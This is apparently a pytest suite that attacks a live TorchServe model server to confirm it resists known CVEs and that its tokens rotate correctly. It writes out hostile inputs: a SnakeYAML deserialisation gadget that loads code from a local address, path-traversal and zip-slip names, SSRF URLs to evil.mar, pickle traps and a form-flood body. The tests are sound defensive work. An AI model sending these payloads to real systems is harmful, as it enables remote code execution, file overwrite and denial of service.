"""Attacks on a live server, its model API on, by who holds the management token; and how its tokens change."""

from __future__ import annotations

import io
import json
import shutil
import socket
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import numpy as np
import pytest

from serving.archive import MANIFEST
from serving.endpoint import KEY_FILE, Endpoint, RequestError, read_endpoint, read_token
from serving.process import stop
from serving.tokens import rotate
from serving.torchserve import TorchServe
from tests.live import PNG, same_answer, settings_of
from tests.traps import Trap

slow = pytest.mark.slow  # starts a real server


@pytest.fixture(scope="module")
def state(stored: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    folder = tmp_path_factory.mktemp("state")
    server = TorchServe(stored, settings_of(), folder, model_api=True)
    try:
        server.start(PNG)
        yield folder
    finally:
        stop(folder)


@pytest.fixture(scope="module")
def endpoint(state: Path) -> Endpoint:
    return read_endpoint(state)


@pytest.fixture
def manager(state: Path, endpoint: Endpoint) -> Iterator[httpx.Client]:
    headers = {"Authorization": f"Bearer {read_token(state, 'management')}"}
    with httpx.Client(
        base_url=endpoint.management_url, headers=headers, trust_env=False, timeout=60
    ) as client:
        yield client


@pytest.fixture
def bait() -> Iterator[tuple[int, list[bytes]]]:
    """A port that notes who comes."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def listen() -> None:
            while True:
                try:
                    connection, _ = listening.accept()
                except OSError:
                    return
                with connection:
                    heard.append(connection.recv(1000))

        threading.Thread(target=listen, daemon=True).start()
        yield listening.getsockname()[1], heard
        listening.shutdown(socket.SHUT_RDWR)


def _models(manager: httpx.Client) -> list[str]:
    return [each["modelName"] for each in manager.get("/models").json()["models"]]


@slow
@pytest.mark.parametrize("kind", ["models", "workflows"])
@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:{port}/evil.mar", "https://127.0.0.1:{port}/evil.mar", "HTTP://127.0.0.1:{port}/evil.mar",
        "http://127.0.0.1:{port}/..%2f..%2fevil.mar", "http://127.0.0.1:{port}/../../evil.mar", "http://a@127.0.0.1:{port}/e.mar",
        "ftp://127.0.0.1:{port}/evil.mar", "s3://bucket/evil.mar", "jar:http://127.0.0.1:{port}/evil.jar!/evil.mar",
    ],
)  # fmt: skip
def test_nothing_is_fetched_from_an_address(
    manager: httpx.Client, bait: tuple[int, list[bytes]], url: str, kind: str
) -> None:
    """CVE-2023-43654 and, with a path in it, CVE-2024-35198."""
    answer = manager.post(f"/{kind}", params={"url": url.format(port=bait[0])})
    assert 400 <= answer.status_code < 600, answer.text
    assert not bait[1], "the server asked"
    assert _models(manager) == ["digits"]


@slow
@pytest.mark.parametrize("kind", ["models", "workflows"])
def test_no_file_outside_the_store_is_loaded(
    manager: httpx.Client, stored: Path, tmp_path: Path, kind: str
) -> None:
    """CVE-2024-35198: names that lead out of the store."""
    evil = tmp_path / "evil.mar"
    shutil.copy(stored, evil)
    climbing = "../" * 12 + str(evil).lstrip("/")
    for url in (
        str(evil),
        f"file://{evil}",
        f"file:{evil}",
        climbing,
        f"./{climbing}",
        climbing.replace("/", "%2f"),
    ):
        answer = manager.post(f"/{kind}", params={"url": url})
        assert 400 <= answer.status_code < 600, (url, answer.text)
    assert _models(manager) == ["digits"]


@slow
def test_a_local_folder_is_loaded_for_nobody_without_the_management_token(
    endpoint: Endpoint, state: Path, tmp_path: Path
) -> None:
    """TorchServe loads any folder for who may manage it, whatever `allowed_urls` says; so nobody else may."""
    tokens = (
        "",
        "Bearer",
        "Bearer wrong",
        f"Bearer {read_token(state)}",
        f"Basic {read_token(state, 'management')}",
    )
    for token in tokens:
        headers = {"Authorization": token} if token else {}
        for method, path in (
            ("POST", f"/models?url={tmp_path}"),
            ("GET", "/models"),
            ("DELETE", "/models/digits"),
        ):
            answer = httpx.request(method, endpoint.management_url + path, headers=headers, trust_env=False)
            assert answer.status_code == 400, (token, method, path)
    management = {"Authorization": f"Bearer {read_token(state, 'management')}"}
    for path in ("/models", "/workflows", "/token?type=inference"):
        answer = httpx.post(endpoint.url + path, headers=management, trust_env=False)
        assert answer.status_code >= 400, "the port for predictions manages nothing"


def _in_store(endpoint: Endpoint, stored: Path, name: str, change: dict[str, bytes], manifest: dict) -> str:
    """An archive in the model store of a live server, where only this user can put one."""
    path = endpoint.scratch / "store" / f"{name}.mar"
    with zipfile.ZipFile(stored) as good, zipfile.ZipFile(path, "w") as bad:
        for inside in good.namelist():
            content = good.read(inside)
            if inside == MANIFEST:
                said = json.loads(content)
                said["model"] |= {"modelName": name, **manifest}
                content = json.dumps(said).encode()
            bad.writestr(inside, content)
        for inside, content in change.items():
            bad.writestr(inside, content)
    return path.name


@slow
def test_an_archive_writes_nothing_outside_its_folder(
    manager: httpx.Client, endpoint: Endpoint, stored: Path, tmp_path: Path
) -> None:
    """CVE-2023-48299: zip slip."""
    target = tmp_path / "slipped"
    climbing = "../" * 12 + str(target).lstrip("/")
    url = _in_store(endpoint, stored, "slip", {climbing: b"x", str(target): b"x"}, {})
    manager.post("/models", params={"url": url})
    assert not target.exists()


@slow
def test_a_models_yaml_runs_no_code(
    manager: httpx.Client, endpoint: Endpoint, stored: Path, bait: tuple[int, list[bytes]]
) -> None:
    """CVE-2022-1471: the tag makes an old SnakeYAML fetch code from an address."""
    address = f"http://127.0.0.1:{bait[0]}/"
    loader = (
        f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{address}"]]]]'
    )
    url = _in_store(
        endpoint, stored, "yaml", {"model-config.yaml": loader.encode()}, {"configFile": "model-config.yaml"}
    )
    answer = manager.post("/models", params={"url": url})
    assert answer.status_code >= 400, answer.text
    assert not bait[1]


@slow
@pytest.mark.parametrize(
    "content_type", ["multipart/form-data; boundary=x", "application/x-www-form-urlencoded"]
)
def test_a_form_of_very_many_fields_ends_no_server(
    endpoint: Endpoint, state: Path, bundle: Path, content_type: str
) -> None:
    """CVE-2024-29025: netty keeps as many fields of a form as a body holds; the limit of bodies bounds it."""
    field = (
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'
        if "multipart" in content_type
        else b"a&"
    )
    headers = {"Authorization": f"Bearer {read_token(state)}", "Content-Type": content_type}
    for repeats in (2_000, 20_000):
        answer = httpx.post(
            f"{endpoint.url}/predictions/digits",
            content=field * repeats,
            headers=headers,
            trust_env=False,
            timeout=60,
        )
        assert 400 <= answer.status_code < 500, answer.text
    good = {"Authorization": headers["Authorization"], "Content-Type": "image/png"}
    answer = httpx.post(f"{endpoint.url}/predictions/digits", content=PNG, headers=good, trust_env=False)
    same_answer(answer.json(), bundle)


@slow
def test_uploads_leave_no_file_that_others_can_read(endpoint: Endpoint, state: Path) -> None:
    """CVE-2021-21290 and CVE-2022-24823: netty writes large uploads into the temporary folder."""
    assert endpoint.scratch.stat().st_mode & 0o077 == 0
    before = set(Path("/tmp").glob("FUp_*"))  # noqa: S108
    headers = {"Authorization": f"Bearer {read_token(state)}"}
    httpx.post(
        f"{endpoint.url}/predictions/digits", files={"a": b"x" * 1_000_000}, headers=headers, trust_env=False
    )
    assert set(Path("/tmp").glob("FUp_*")) == before  # noqa: S108


@slow
@pytest.mark.parametrize("kind", ["raw", "array", "base64"])
def test_a_pickle_as_a_request_is_refused(
    endpoint: Endpoint, state: Path, trap: bytes, sprung: Path, kind: str
) -> None:
    import base64

    array = io.BytesIO()
    np.save(array, np.array([Trap(sprung)], dtype=object), allow_pickle=True)
    encoded = json.dumps({"image": base64.b64encode(trap).decode()}).encode()
    body = {"raw": trap, "array": array.getvalue(), "base64": encoded}[kind]
    headers = {"Authorization": f"Bearer {read_token(state)}", "Content-Type": "application/octet-stream"}
    answer = httpx.post(f"{endpoint.url}/predictions/digits", content=body, headers=headers, trust_env=False)
    assert answer.status_code == 400
    assert not sprung.exists()


@slow
def test_a_pickle_in_the_place_of_the_tokens_is_refused(
    state: Path, trap: bytes, sprung: Path, tmp_path: Path
) -> None:
    (tmp_path / KEY_FILE).write_bytes(trap)
    with pytest.raises(RequestError, match="no inference token"):
        read_token(tmp_path)
    assert not sprung.exists()


# --- tokens


@slow
def test_tokens_change_without_a_restart(endpoint: Endpoint, state: Path, bundle: Path) -> None:
    def ask(token: str) -> httpx.Response:
        headers = {"Authorization": f"Bearer {token}", "Content-Type": "image/png"}
        return httpx.post(f"{endpoint.url}/predictions/digits", content=PNG, headers=headers, trust_env=False)

    def manage(token: str) -> int:
        headers = {"Authorization": f"Bearer {token}"}
        return httpx.get(f"{endpoint.management_url}/models", headers=headers, trust_env=False).status_code

    old, old_management = read_token(state), read_token(state, "management")
    rotate(state)
    new, management = read_token(state), read_token(state, "management")
    assert len({old, old_management, new, management}) == 4
    same_answer(ask(new).json(), bundle)
    assert ask(old).status_code == 400, "the old one ends at once"
    assert (manage(management), manage(old_management)) == (200, 400)
    assert (state / KEY_FILE).stat().st_mode & 0o777 == 0o600
